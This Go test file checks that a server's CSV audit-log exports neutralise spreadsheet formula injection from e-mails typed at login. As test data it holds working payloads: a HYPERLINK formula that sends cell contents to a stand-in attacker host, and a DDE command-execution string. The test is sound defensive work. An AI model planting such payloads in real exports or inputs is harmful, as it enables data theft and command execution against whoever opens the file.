package server

import (
	"encoding/csv"
	"strings"
	"testing"
)

// TestAuditExportFormulaCells: what a stranger types as an e-mail at the
// login form reaches the audit log's CSV exports as text, never as a cell
// a spreadsheet runs as a formula.
func TestAuditExportFormulaCells(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	// (in lower case and without spaces around: login keeps e-mails so)
	typed := []string{`=hyperlink("https://evil.example/?"&a1,"x")`, "+1+cmd|' /c calc'!a0", "-2+3", "@sum(1)"}
	for _, email := range typed {
		e.do("POST", "/v1/auth/login", "", `{"email":`+jsonString(email)+`,"password":"wrong password"}`, 401)
	}

	for _, path := range []string{"/v1/admin/audit-log?format=csv", "/v1/audit-log?format=csv"} {
		r := e.do("GET", path, e.adminToken, "", 200)
		rows, err := csv.NewReader(strings.NewReader(string(r.raw))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, row := range rows[1:] {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Fatalf("%s: the cell %q starts a formula (row %q)", path, cell, row)
				}
				seen[cell] = true
			}
		}
		if path == "/v1/admin/audit-log?format=csv" {
			for _, email := range typed {
				if !seen["'"+email] {
					t.Errorf("%s: no cell %q", path, "'"+email)
				}
			}
		}
	}
}

func jsonString(s string) string {
	var b strings.Builder
	b.WriteByte('"')
	for _, r := range s {
		switch {
		case r == '"' || r == '\\':
			b.WriteByte('\\')
			b.WriteRune(r)
		case r < 0x20:
			b.WriteString(`\u00`)
			b.WriteByte("0123456789abcdef"[r>>4])
			b.WriteByte("0123456789abcdef"[r&15])
		default:
			b.WriteRune(r)
		}
	}
	b.WriteByte('"')
	return b.String()
}
